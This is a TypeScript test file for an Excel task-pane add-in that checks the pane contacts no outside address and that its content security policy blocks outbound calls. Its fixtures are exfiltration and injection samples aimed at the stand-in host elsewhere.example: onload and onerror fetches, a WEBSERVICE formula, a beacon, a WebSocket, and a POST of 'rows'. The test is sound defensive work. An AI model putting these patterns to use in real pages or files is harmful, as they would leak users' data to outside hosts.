// Nothing leaves the PC: the pane goes through all it does, also with an article that is made to call home, and asks
// no other address for anything. And if some code of it ever tried, the page's policy would stop it: here it tries.
// Run `npm run build` first; the test command does. PANE_BUILD names another build.
import { existsSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { texts } from "../../src/taskpane/texts";
import { openExcelPage, type ExcelPage } from "../excel-host/browser/open-excel-page";
import { findProgram } from "../external-programs";
import { buildPdf } from "../reading/pdf/build-pdf";
import { walkThrough } from "./tour";

const dist = process.env.PANE_BUILD ?? fileURLToPath(new URL("../../dist", import.meta.url));
const chromium = findProgram("chromium", "chromium-browser", "google-chrome");
const elsewhere = "https://elsewhere.example";
const shown = texts.ko;

/** What a page from the web may bring along; each of it would call another address if it came alive. */
const callingHome = `<!doctype html><html><head><title>거제시, 일본서 수출계약</title>
<link rel="stylesheet" href="${elsewhere}/style.css"><script src="${elsewhere}/script.js"></script>
<meta http-equiv="refresh" content="0; url=${elsewhere}/"><base href="${elsewhere}/"></head>
<body onload="fetch('${elsewhere}/loaded')"><img src="${elsewhere}/picture.png" onerror="fetch('${elsewhere}/error')">
<iframe src="${elsewhere}/frame"></iframe><article><p>거제시는 지난 3일 일본 도쿄 수출상담회에서 계약 4건,
52만 달러를 체결했다고 밝혔다.</p><p>상담회에는 지역 기업 6개사가 참가했다.</p></article></body></html>`;

/** The same in words that are pasted: nothing of it may become part of the page. */
const pastedMarkup = `밀양시, 몽골서 수출계약 <img src="${elsewhere}/pasted.png">

밀양시는 지난 4일 몽골 울란바토르에서 <script src="${elsewhere}/pasted.js"></script> 계약 12만 달러를 체결했다고 밝혔다.
[사진](${elsewhere}/link) =WEBSERVICE("${elsewhere}/formula") 참가 기업은 모두 3개사다.
`;

describe.skipIf(chromium === undefined)("the built pane", () => {
  let excel: ExcelPage;

  beforeAll(async () => {
    if (!existsSync(dist)) throw new Error("There is no build to try: run `npm run build` first.");
    excel = await openExcelPage({ chromiumPath: chromium ?? "", addinFolder: dist });
  });

  afterAll(async () => {
    await excel.close();
  });

  const press = (name: string) => excel.pane.getByRole("button", { name, exact: true }).click();
  const open = (tab: keyof typeof shown.frame.tabs) =>
    excel.pane.getByRole("tab", { name: shown.frame.tabs[tab] }).click();

  it("asks no other address for anything on the way through every screen", async () => {
    await walkThrough(excel, "ko", () => Promise.resolve());
    await press(shown.frame.close);
    expect([excel.strayRequests, excel.pageErrors]).toEqual([[], []]);
  });

  it("asks none for what an article names, in a file or pasted, nor to read a PDF", async () => {
    await open("import");
    const pdf = buildPdf([
      [
        { text: "사천시, 태국서 수출계약", x: 60, y: 740, size: 20 },
        { text: "사천시는 지난 5일 태국 방콕에서 계약 3건, 21만 달러를 체결했다고 밝혔다.", x: 60, y: 680 },
        { text: "사절단에는 지역 기업 4개사가 참가했다.", x: 60, y: 640 },
      ],
    ]);
    await excel.pane.locator("input[type=file]").setInputFiles([
      { name: "거제.html", mimeType: "text/html", buffer: Buffer.from(callingHome) },
      { name: "사천.pdf", mimeType: "application/pdf", buffer: Buffer.from(pdf) },
    ]);
    await excel.pane.getByRole("list", { name: shown.review.list }).waitFor();
    await open("import");
    await excel.pane.getByLabel(shown.import.pasteLabel).fill(pastedMarkup);
    await press(shown.import.read);
    await press(shown.review.write(3));
    await excel.pane.getByRole("button", { name: shown.import.toChecks, exact: true }).waitFor();

    const written = JSON.stringify(await excel.page.evaluate(() => window.excelHost?.describe("성과")));
    expect(["52만 달러", "21만 달러", "12만 달러"].filter((sum) => !written.includes(sum))).toEqual([]);
    expect([excel.strayRequests, excel.pageErrors]).toEqual([[], []]);
  });

  it("would be stopped by its policy whatever it tried", async () => {
    const stopped = await excel.pane.evaluate(tryEveryWay, elsewhere);
    expect(stopped).toEqual({
      fetch: "connect-src",
      request: "connect-src",
      beacon: "connect-src",
      socket: "connect-src",
      picture: "img-src",
      script: "script-src-elem",
      "inline script": "script-src-elem",
      "code from text": "script-src",
      style: "style-src-elem",
      frame: "frame-src",
      worker: "worker-src",
      base: "base-uri",
      form: "form-action",
    });
    expect(excel.strayRequests).toEqual([]);
  });
});

/** Runs in the pane: tries each way to another address or to foreign code, and tells what of the policy stopped it. */
async function tryEveryWay(elsewhere: string): Promise<Record<string, string>> {
  const add = (name: string, properties: object): void => {
    document.body.append(Object.assign(document.createElement(name), properties));
  };
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(`${elsewhere}/fetch`),
    request: () => {
      const request = new XMLHttpRequest();
      request.open("POST", `${elsewhere}/request`);
      request.send("rows");
    },
    beacon: () => navigator.sendBeacon(`${elsewhere}/beacon`, "rows"),
    socket: () => new WebSocket(`${elsewhere.replace("https", "wss")}/socket`),
    picture: () => {
      add("img", { src: `${elsewhere}/picture.png?rows` });
    },
    script: () => {
      add("script", { src: `${elsewhere}/script.js` });
    },
    "inline script": () => {
      add("script", { textContent: "document.title = 'taken over'" });
    },
    "code from text": () => Reflect.construct(Function, ["return 1"]),
    style: () => {
      add("link", { rel: "stylesheet", href: `${elsewhere}/style.css` });
    },
    frame: () => {
      add("iframe", { src: `${elsewhere}/frame` });
    },
    worker: () => new Worker(URL.createObjectURL(new Blob(["close()"]))),
    base: () => {
      add("base", { href: `${elsewhere}/` });
    },
    form: () => {
      const form = document.createElement("form");
      form.action = `${elsewhere}/form`;
      document.body.append(form);
      form.submit();
    },
  };
  const stopped: Record<string, string> = {};
  for (const [way, attempt] of Object.entries(ways)) {
    const violation = new Promise<string>((resolve) => {
      const tooLate = setTimeout(() => {
        resolve("nothing");
      }, 3000);
      document.addEventListener(
        "securitypolicyviolation",
        ({ effectiveDirective }) => {
          clearTimeout(tooLate);
          resolve(effectiveDirective);
        },
        { once: true },
      );
    });
    // Some ways also throw at once, or refuse later; what counts is what the policy says.
    await Promise.resolve()
      .then(attempt)
      .catch(() => undefined);
    stopped[way] = await violation;
  }
  return stopped;
}
